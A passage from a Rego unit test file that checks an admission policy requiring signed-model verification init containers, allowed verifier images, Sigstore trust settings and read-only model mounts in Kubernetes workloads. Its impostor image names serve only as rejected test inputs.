	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"tag-and-digest"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch:0.2.0@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod longer-name
test_corpus_params_images_longer_name if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"longer-name"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch-evil:0.2.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod sub-repository
test_corpus_params_images_sub_repository if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"sub-repository"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch/evil:1","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod other-registry
test_corpus_params_images_other_registry if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"other-registry"},"spec":{"initContainers":[{"image":"evil.example/aegis/verify-and-fetch:0.2.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod busybox
test_corpus_params_images_busybox if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"busybox"},"spec":{"initContainers":[{"image":"busybox:1.36","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod prefix-entry
test_corpus_params_images_prefix_entry if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"prefix-entry"},"spec":{"initContainers":[{"image":"mirror.example/aegis/anything:1","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod prefix-is-text
test_corpus_params_images_prefix_is_text if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"prefix-is-text"},"spec":{"initContainers":[{"image":"mirror.example/aegis-evil/x:1","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod port-is-not-a-tag
test_corpus_params_images_port_is_not_a_tag if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"port-is-not-a-tag"},"spec":{"initContainers":[{"image":"localhost:5000/evil:1","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod host-with-tag
test_corpus_params_images_host_with_tag if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"host-with-tag"},"spec":{"initContainers":[{"image":"localhost:1","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod upper-case-differs
test_corpus_params_images_upper_case_differs if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"upper-case-differs"},"spec":{"initContainers":[{"image":"Registry.example/aegis/verify-and-fetch:0.2.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod no-image
test_corpus_params_images_no_image if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"no-image"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod image-not-a-string
test_corpus_params_images_image_not_a_string if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"image-not-a-string"},"spec":{"initContainers":[{"image":5,"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-images / params-images: Pod impostor-mounts-key
test_corpus_params_images_impostor_mounts_key if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS003"},"name":"impostor-mounts-key"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch:1","name":"verify-and-fetch"},{"image":"busybox:1","name":"verify-shadow","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS003"]}
}

# params-images / params-images: Deployment one-allowed-of-two
test_corpus_params_images_one_allowed_of_two if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":""},"name":"one-allowed-of-two"},"spec":{"template":{"spec":{"initContainers":[{"image":"busybox:1","name":"verify-old"},{"image":"registry.example/aegis/verify-and-fetch:1","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod image-without-name
test_corpus_params_images_image_without_name if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001"},"name":"image-without-name"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch:1","name":"fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# params-images / params-images: InferenceService isvc-images
test_corpus_params_images_isvc_images if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"transformer:AEGIS004"},"name":"isvc-images"},"spec":{"predictor":{"initContainers":[{"image":"mirror.example/aegis/v:1","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]},"transformer":{"initContainers":[{"image":"busybox","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["transformer", "AEGIS004"]}
}

# params-keyless / params-keyless: Pod keyless
test_corpus_params_keyless_keyless if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"keyless"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"https://github.com/org/repo/.github/workflows/release.yml@refs/heads/main"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://token.actions.githubusercontent.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root","readOnly":true}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == set()
}

# params-keyless / params-keyless: Pod keyless-patterns-from-a-configmap
test_corpus_params_keyless_keyless_patterns_from_a_configmap if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"keyless-patterns-from-a-configmap"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY_REGEXP","valueFrom":{"configMapKeyRef":{"key":"identity","name":"signers"}}},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER_REGEXP","value":"^https://token\\.actions\\.githubusercontent\\.com$"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"root"}]}],"volumes":[{"name":"root","projected":{"sources":[{"configMap":{"name":"sigstore-trusted-root"}}]}}]}}}}
	corpus_ids(vs) == set()
}

# params-keyless / params-keyless: Pod keyless-without-issuer
test_corpus_params_keyless_keyless_without_issuer if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-without-issuer"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root"}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-keyless / params-keyless: Pod keyless-root-not-mounted
test_corpus_params_keyless_keyless_root_not_mounted if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-root-not-mounted"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"verify-and-fetch"}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-keyless / params-keyless: Pod keyless-other-configmap
test_corpus_params_keyless_keyless_other_configmap if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-other-configmap"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root"}]}],"volumes":[{"configMap":{"name":"attacker-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-keyless / params-keyless: Pod keyless-env-without-value
test_corpus_params_keyless_keyless_env_without_value if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-env-without-value"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root"}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-keyless / params-keyless: Pod keyless-on-another-container
test_corpus_params_keyless_keyless_on_another_container if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-on-another-container"},"spec":{"initContainers":[{"name":"verify-and-fetch"},{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"setup","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root"}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-keyless / params-keyless: Pod keyless-and-an-unmounted-key
test_corpus_params_keyless_keyless_and_an_unmounted_key if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"keyless-and-an-unmounted-key"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root"}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"},{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-keyless / params-keyless: Deployment keyless-deployment-volume-name-not-a-string
test_corpus_params_keyless_keyless_deployment_volume_name_not_a_string if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"trustedRootConfigMap":"sigstore-trusted-root"},"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-deployment-volume-name-not-a-string"},"spec":{"template":{"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":7}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":7}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-model-mount / params-model-mount: Pod consumed
test_corpus_params_model_mount_consumed if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"consumed"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == set()
}

# params-model-mount / params-model-mount: Pod consumed-elsewhere
test_corpus_params_model_mount_consumed_elsewhere if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"consumed-elsewhere"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/srv/model","name":"model","readOnly":true}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == set()
}

# params-model-mount / params-model-mount: Pod not-read-only
test_corpus_params_model_mount_not_read_only if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006","aegis.dev/render-error":"no container mounts a volume the verifier writes (model) read-only"},"name":"not-read-only"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod read-only-string
test_corpus_params_model_mount_read_only_string if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006"},"name":"read-only-string"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":"true"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod not-mounted
test_corpus_params_model_mount_not_mounted if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006"},"name":"not-mounted"},"spec":{"containers":[{"image":"s","name":"s"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod no-containers
test_corpus_params_model_mount_no_containers if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006","aegis.dev/render-error":"no container mounts a volume the verifier writes (model) read-only"},"name":"no-containers"},"spec":{"containers":[],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod only-key
test_corpus_params_model_mount_only_key if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006"},"name":"only-key"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod verifier-read-only
test_corpus_params_model_mount_verifier_read_only if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006"},"name":"verifier-read-only"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"mountPath":"/models","name":"model","readOnly":true}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod shadowed-at
test_corpus_params_model_mount_shadowed_at if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006","aegis.dev/render-error":"the verified copy is shadowed"},"name":"shadowed-at"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true},{"mountPath":"/models","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod shadowed-under
test_corpus_params_model_mount_shadowed_under if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006","aegis.dev/render-error":"under the verified model directory"},"name":"shadowed-under"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models/","name":"model","readOnly":true},{"mountPath":"/models/my_model/","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod sibling-not-under
test_corpus_params_model_mount_sibling_not_under if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"sibling-not-under"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true},{"mountPath":"/models2","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == set()
}

# params-model-mount / params-model-mount: Pod parent-not-under
test_corpus_params_model_mount_parent_not_under if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/render-error":"under the verified model directory"},"name":"parent-not-under"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models/m","name":"model","readOnly":true},{"mountPath":"/models","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == set()
}

# params-model-mount / params-model-mount: Pod shadow-in-other-container
test_corpus_params_model_mount_shadow_in_other_container if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/render-error":"under the verified model directory"},"name":"shadow-in-other-container"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]},{"name":"sidecar","volumeMounts":[{"mountPath":"/models/x","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == set()
}

# params-model-mount / params-model-mount: Pod two-shadows
